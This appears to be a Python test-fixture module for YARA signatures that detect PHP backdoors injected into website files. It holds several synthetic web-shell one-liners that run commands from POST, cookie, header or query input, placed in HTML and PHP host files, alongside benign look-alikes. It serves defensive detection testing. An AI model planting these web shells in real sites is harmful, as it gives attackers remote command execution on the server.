"""Must-hit / near-miss samples for `signatures/injected.yar`, collected by tests/test_rules.py.

A planted one-liner rarely arrives alone: it is written into a site's existing files, on top of
index.php or behind a theme's HTML. These samples put small synthetic backdoors (written for the
tests; nothing comes from the malware corpus) into bigger synthetic host files, and pair each with
a legitimate look-alike of the same size.
"""

from __future__ import annotations

#: ~5 KB of theme markup, the kind of host an injected block is appended to.
HTML = b'<div class="post"><p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p></div>\n' * 60

#: A ~4 KB application script with a license docblock, the kind of host a block is put on top of.
APP = (
    b"<?php\n/**\n * Front controller of a small site.\n *\n * @license GPL-2.0-or-later\n */\n\n"
    + b"require __DIR__ . '/lib/bootstrap.php';\n"
    + b"$router = new Router($config);\n$page = $router->dispatch($_SERVER['REQUEST_URI']);\n"
    + b"echo $view->render($page);\n" * 80
)

BLOCK = "SPAMGEAR_INJECTED_SmallBlockInputToSink"
HEAD = "SPAMGEAR_INJECTED_HeadInputToSink"

CASES: list[tuple[str, bytes, bool]] = [
    # A closed block on top of an application file.
    (BLOCK, b"<?php @eval($_POST['x']); ?>" + APP, True),
    # Short open tag, header input, written behind a page's HTML and closed.
    (
        BLOCK,
        HTML + b"<? $k = $_SERVER['HTTP_X_KEY']; if ($k) { system(base64_decode($k)); } ?>\n" + HTML,
        True,
    ),
    # Appended at the end of a page without a closing tag.
    (BLOCK, HTML + b"<?php $c = filter_input(INPUT_COOKIE, 'c');\npassthru($c);\n", True),
    # The input arrives after the sink's definition, inside the same block.
    (
        BLOCK,
        HTML + b"<?php function r($a) { return shell_exec($a); } echo r($_REQUEST['q']); ?>\n" + HTML,
        True,
    ),
    # Near-miss: request read in one block, an unrelated shell call in a later one.
    (
        BLOCK,
        b"<?php $q = htmlspecialchars($_GET['q']); ?>\n" + HTML + b"<?php system($backup_cmd); ?>\n",
        False,
    ),
    # Near-miss: a template block that calls a method named exec on a database object.
    (BLOCK, HTML + b"<?php $n = $db->exec($_POST['sql_id']); echo (int) $n; ?>\n" + HTML, False),
    # Near-miss: the pairing exists, but in one big block (a whole script, not a planted line).
    (BLOCK, b"<?php\n$cmd = $_POST['cmd'];\n" + b"$log->info('step');\n" * 200 + b"system($cmd);\n", False),
    # Same-block injection: code put after the open tag, before the script's own docblock.
    (HEAD, b"<?php @eval($_REQUEST['p']);" + APP[5:], True),
    (
        HEAD,
        b"<?php $h = getallheaders(); if (isset($h['X-Run'])) { exec($h['X-Run'], $o); }\n" + APP[5:],
        True,
    ),
    # Near-miss: the script's own code after its docblock reads input and runs a command.
    (HEAD, APP[:60] + b"$out = shell_exec($_GET['host']);\n" + APP[60:], False),
    # Near-miss: no comment after the pairing (a small script, not a planted head).
    (
        HEAD,
        b"<?php $d = $_GET['dir']; exec($d, $lines);\n" + b"echo htmlspecialchars($lines[0]);\n" * 80,
        False,
    ),
]
